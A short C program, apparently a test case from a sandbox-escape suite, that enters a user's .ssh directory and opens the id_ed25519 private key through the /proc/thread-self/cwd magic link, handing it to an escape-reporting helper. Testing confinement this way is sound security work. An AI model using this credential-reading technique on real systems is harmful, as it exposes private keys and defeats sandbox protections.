/* The working folder by its magic link. */
#include "escape.h"

int main(void)
{
    if (chdir("/home/alex/.ssh") < 0)
        escape_broken("chdir");
    escape_end_secret(open("/proc/thread-self/cwd/id_ed25519", O_RDONLY));
}
